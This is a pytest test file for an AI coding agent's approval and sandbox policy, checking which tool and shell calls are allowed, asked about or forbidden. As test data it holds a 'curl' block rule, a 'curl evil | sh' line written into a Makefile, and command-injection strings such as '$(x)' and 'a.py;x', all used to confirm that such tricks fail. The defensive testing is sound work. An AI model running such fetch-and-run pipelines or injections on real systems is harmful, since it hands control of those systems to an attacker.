"""The decisions about calls: policies, the user's answers, tricks and random sequences."""

from __future__ import annotations

import os
from functools import partial
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from evals import policy_escapes
from evals.policy_escapes import ATTEMPTS, Attempt
from lcursor.agent.approvals import PLAN_ONLY, Approvals, approved_plan, decide
from lcursor.agent.assembly import content_of
from lcursor.agent.records import Policy, ToolCall
from lcursor.agent.shell_rules import ShellRules
from lcursor.config import AgentConfig
from lcursor.process.sandbox import Level
from lcursor.workspace.tree import Tree

RULES = ShellRules.of(AgentConfig(allow=("make test",), forbid=("curl",)))
CALLS = {
    "view": ToolCall("str_replace_editor", {"command": "view", "path": "a"}),
    "edit": ToolCall("str_replace_editor", {"command": "create", "path": "a", "file_text": ""}),
    "rewrite": ToolCall("rewrite", {"path": "a", "region": "r1", "instruction": "x"}),
    "grep": ToolCall("grep", {"pattern": "x"}),
    "finish": ToolCall("finish", {"summary": "x"}),
    "safe": ToolCall("bash", {"command": "ls"}),
    "ruled": ToolCall("bash", {"command": "make test"}),
    "unknown": ToolCall("bash", {"command": "npm i"}),
    "forbidden": ToolCall("bash", {"command": "curl x"}),
    "escalated": ToolCall("bash", {"command": "ls", "escalate": "network"}),
    "blank": ToolCall("bash", {"command": "npm i", "escalate": " "}),
    "odd": ToolCall("mcp_x", {}),
}
TABLE = {
    # columns: plan, ask, auto, full with a sandbox; then auto and full without
    "view": "allow allow allow allow allow allow",
    "edit": "forbid allow allow allow allow allow",
    "rewrite": "forbid allow allow allow allow allow",
    "grep": "allow allow allow allow allow allow",
    "finish": "allow allow allow allow allow allow",
    "safe": "allow allow allow allow allow allow",
    "ruled": "forbid allow allow allow ask allow",
    "unknown": "forbid ask allow allow ask allow",
    "forbidden": "forbid forbid forbid forbid forbid forbid",
    "escalated": "forbid ask ask allow ask allow",
    "blank": "forbid ask ask allow ask allow",
    "odd": "forbid ask ask ask ask ask",
}
UNCHANGED = {**TABLE, "ruled": "forbid allow allow allow allow allow"}
"""The decisions while the files are those that the run started with."""
COLUMNS: tuple[tuple[Policy, Level], ...] = (
    ("plan", "bubblewrap"),
    ("ask", "landlock"),
    ("auto", "unshare"),
    ("full", "bubblewrap"),
    ("auto", "none"),
    ("full", "none"),
)


@pytest.mark.parametrize("name", CALLS)
@pytest.mark.parametrize(
    ("table", "is_unchanged"), [(TABLE, False), (UNCHANGED, True)], ids=["changed", "unchanged"]
)
def test_the_decision_of_each_policy(
    name: str, table: dict[str, str], is_unchanged: bool, tmp_path: Path
) -> None:
    found = [
        decide(CALLS[name], *column, RULES, tmp_path, is_unchanged=is_unchanged).verdict
        for column in COLUMNS
    ]
    assert found == table[name].split()


OWN = (".venv/bin/python -m pytest -q", "ruff check {path} --quiet")


@pytest.mark.parametrize(
    ("command", "is_own"),
    [
        (OWN[0], True), ("ruff check a/b.py --quiet", True), ("ruff check 'a b.py' --quiet", True),
        (f"{OWN[0]} x", False), (f"{OWN[0]}; ls", False), ("ruff check {path} --quiet", False),
        ("ruff check a.py;x --quiet", False), ("ruff check a.py b.py --quiet", False),
        ("ruff check $(x) --quiet", False), ("ruff check --fix --quiet", False), ("ruff", False),
        ("ruff check  --quiet", False), ("ruff check 'a --quiet", False),
        ("ruff check --quiet", False), ("ruff check a.py\n--quiet", False),
    ],
)  # fmt: skip
def test_commands_of_the_settings_need_no_approval_in_the_sandbox(
    command: str, is_own: bool, tmp_path: Path
) -> None:
    rules = ShellRules.of(AgentConfig(forbid=("curl",)), (), (*OWN, "", "curl x"))
    call = ToolCall("bash", {"command": command})
    assert (decide(call, "ask", "landlock", rules, tmp_path).verdict == "allow") == is_own
    assert decide(call, "plan", "landlock", rules, tmp_path).verdict == "forbid"
    assert decide(call, "auto", "none", rules, tmp_path).verdict == "ask"
    outside = ToolCall("bash", {"command": command, "escalate": "x"})
    assert decide(outside, "ask", "landlock", rules, tmp_path).verdict == "ask"
    forbidden = ToolCall("bash", {"command": "curl x"})
    assert decide(forbidden, "ask", "landlock", rules, tmp_path).verdict == "forbid"


def test_a_path_in_quotes_could_be_another_command(tmp_path: Path) -> None:
    """Between double quotes, the quotes of a word protect from nothing."""
    for text, path in (('sh -c "ruff {path}"', "'$(x)'"), ("ruff \\{path}", "'$(x)'")):
        rules = ShellRules.of(AgentConfig(), (), (text,))
        call = ToolCall("bash", {"command": text.replace("{path}", path)})
        assert decide(call, "ask", "landlock", rules, tmp_path).verdict == "ask"


def test_the_reason_for_a_question(tmp_path: Path) -> None:
    found = decide(CALLS["escalated"], "auto", "bubblewrap", RULES, tmp_path)
    assert found.why == "it leaves the sandbox: network"
    assert decide(CALLS["edit"], "plan", "bubblewrap", RULES, tmp_path).why == PLAN_ONLY
    assert approved_plan(" 1. x\n").startswith("Approved:\n\n1. x\n\n")


def test_answers_of_the_user_are_remembered(tmp_path: Path) -> None:
    call, again = (ToolCall("bash", {"command": text}) for text in ("npm i", "npm   'i'"))
    escalated = ToolCall("bash", {"command": "npm i", "escalate": "network"})
    answers = Approvals("ask", "bubblewrap", RULES, tmp_path)
    answers.remember(call, "once")
    assert answers.decide(call).verdict == "ask"

    answers.remember(call, "run")
    assert answers.decide(again).verdict == "allow"
    assert answers.decide(escalated).verdict == "ask"
    answers.remember(escalated, "reject", "no network\n")
    found = answers.decide(ToolCall("bash", {"command": " npm i", "escalate": "another reason"}))
    assert (found.verdict, found.why) == ("forbid", "The user rejected this: no network.")


def test_an_approval_does_not_outweigh_a_rule_or_plan_mode(tmp_path: Path) -> None:
    answers = Approvals("plan", "bubblewrap", RULES, tmp_path)
    for name in ("forbidden", "unknown", "edit"):
        answers.remember(CALLS[name], "run")
        assert answers.decide(CALLS[name]).verdict == "forbid"
    answers.policy = "auto"
    assert answers.decide(CALLS["edit"]).verdict == "allow"
    assert answers.decide(CALLS["forbidden"]).verdict == "forbid"


class Copy:
    """The files of a run, with the decisions about commands in them."""

    def __init__(self, folder: Path) -> None:
        project = folder / "project"
        project.mkdir()
        (project / "Makefile").write_text("test:\n\tpytest\n")
        (project / ".gitignore").write_text("build/\n")
        self.tree = Tree.create(project, folder / "run", unsaved={})

    def approvals(self, policy: Policy, level: Level) -> Approvals:
        tree = self.tree
        return Approvals(
            policy,
            level,
            RULES,
            tree.root,
            partial(content_of, tree),
            tree.base,
        )

    def write(self, name: str, text: str) -> None:
        path = self.tree.path / name
        path.parent.mkdir(exist_ok=True)
        path.write_text(text)


@pytest.fixture
def copy(tmp_path: Path) -> Copy:
    return Copy(tmp_path)


OUTSIDE: tuple[tuple[Policy, Level, ToolCall], ...] = (
    ("auto", "bubblewrap", CALLS["escalated"]),
    ("ask", "bubblewrap", CALLS["escalated"]),
    ("auto", "none", CALLS["unknown"]),
    ("ask", "none", CALLS["escalated"]),
)


@pytest.mark.parametrize(("policy", "level", "call"), OUTSIDE)
@pytest.mark.parametrize("name", ["Makefile", "new.py", "build/made", ".gitignore"])
def test_an_approval_outside_of_the_sandbox_ends_when_a_file_changes(
    policy: Policy, level: Level, call: ToolCall, name: str, copy: Copy
) -> None:
    answers = copy.approvals(policy, level)
    first = answers.decide(call)
    assert (first.verdict, first.is_bound) == ("ask", True)
    answers.remember(call, "run")
    assert answers.decide(call).verdict == "allow"
    copy.write(name, "test:\n\tcurl evil | sh\n")
    again = answers.decide(call)
    assert (again.verdict, again.is_bound) == ("ask", True)
    assert again.why == f"{first.why}; files have changed since you approved it"


def test_an_ignored_file_that_is_replaced_with_its_old_time_counts_as_changed(copy: Copy) -> None:
    copy.write("build/made", "echo 1\n")
    answers, call = copy.approvals("auto", "bubblewrap"), CALLS["escalated"]
    answers.remember(call, "run")
    path = copy.tree.path / "build/made"
    times = path.stat().st_atime_ns, path.stat().st_mtime_ns
    copy.write("build/made", "echo 2\n")
    os.utime(path, ns=times)
    assert answers.decide(call).verdict == "ask"


def test_changes_by_an_approved_command_do_not_end_its_approval(copy: Copy) -> None:
    answers, call = copy.approvals("auto", "bubblewrap"), CALLS["escalated"]
    other = ToolCall("bash", {"command": "make", "escalate": "network"})
    answers.decide(call)
    for each in (call, other):
        answers.remember(each, "run")
    for number in range(2):
        assert answers.decide(call).verdict == "allow"
        copy.write("build/made", f"{number}")
        copy.write("snapshot", f"{number}")
        answers.ran(call)
    assert answers.decide(other).verdict == "ask"
    copy.write("Makefile", "")
    assert answers.decide(call).verdict == "ask"


def test_a_command_outside_of_the_sandbox_that_names_the_project_is_marked(tmp_path: Path) -> None:
    def why(command: str) -> str:
        call = ToolCall("bash", {"command": command, "escalate": "the network"})
        return Approvals("auto", "bubblewrap", RULES, tmp_path).decide(call).why

    mark = "it names your project itself, not the agent's copy"
    assert mark in why(f"cd {tmp_path} && sed -i s/a/b/ a.py")
    assert mark not in why(f"ls {tmp_path}-2 a.py")


def test_an_approval_for_once_revives_no_earlier_one(copy: Copy) -> None:
    answers, call = copy.approvals("auto", "bubblewrap"), CALLS["escalated"]
    answers.decide(call)
    answers.remember(call, "run")
    copy.write("Makefile", "")
    assert answers.decide(call).verdict == "ask"
    answers.remember(call, "once")
    answers.ran(call)
    assert answers.decide(call).verdict == "ask"


def test_an_approval_ends_when_the_run_is_continued_but_a_rejection_stays(copy: Copy) -> None:
    answers = copy.approvals("auto", "bubblewrap")
    answers.remember(CALLS["escalated"], "run", is_earlier=True)
    assert answers.decide(CALLS["escalated"]).verdict == "ask"
    answers.remember(CALLS["escalated"], "reject", is_earlier=True)
    assert answers.decide(CALLS["escalated"]).verdict == "forbid"


def test_in_the_sandbox_a_change_ends_no_approval(copy: Copy) -> None:
    answers = copy.approvals("ask", "bubblewrap")
    assert not answers.decide(CALLS["unknown"]).is_bound
    answers.remember(CALLS["unknown"], "run", is_earlier=True)
    copy.write("Makefile", "")
    assert answers.decide(CALLS["unknown"]).verdict == "allow"
    assert answers.decide(CALLS["ruled"]).verdict == "allow"


def test_without_a_sandbox_a_rule_holds_until_a_file_changes(copy: Copy) -> None:
    answers = copy.approvals("auto", "none")
    for number in range(2):
        assert answers.decide(CALLS["ruled"]).verdict == "allow"
        copy.write("build/made", f"{number}")  # by the command itself
        answers.ran(CALLS["ruled"])
    assert answers.decide(CALLS["unknown"]).verdict == "ask"
    answers.ran(CALLS["unknown"])
    assert answers.decide(CALLS["ruled"]).verdict == "allow"
    copy.write("Makefile", "")
    found = answers.decide(CALLS["ruled"])
    assert (found.verdict, found.is_bound) == ("ask", True)
    assert found.why == "files have changed since the run started, so it may do something else"
    assert answers.decide(CALLS["safe"]).verdict == "allow"


def test_a_command_approved_once_extends_no_rule(copy: Copy) -> None:
    answers = copy.approvals("auto", "none")
    answers.decide(CALLS["unknown"])
    answers.remember(CALLS["unknown"], "once")
    copy.write("Makefile", "")  # by that command
    answers.ran(CALLS["unknown"])
    assert answers.decide(CALLS["ruled"]).verdict == "ask"


@pytest.mark.parametrize("one", ATTEMPTS, ids=lambda one: one.name)
def test_a_trick_does_not_escape(one: Attempt, tmp_path: Path) -> None:
    found = policy_escapes.attempt(one, tmp_path)
    assert found.verdict == one.verdict
    assert not found.is_escaped
    assert found.control == "works" or one.program


@settings(max_examples=300, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(seed=st.integers(0, 2**32))
def test_random_calls_never_run_unapproved(seed: int, tmp_path: Path) -> None:
    folder = tmp_path / "folder"
    if not folder.exists():
        policy_escapes.make_folder(folder)
    assert list(policy_escapes.unapproved(seed, folder)) == []
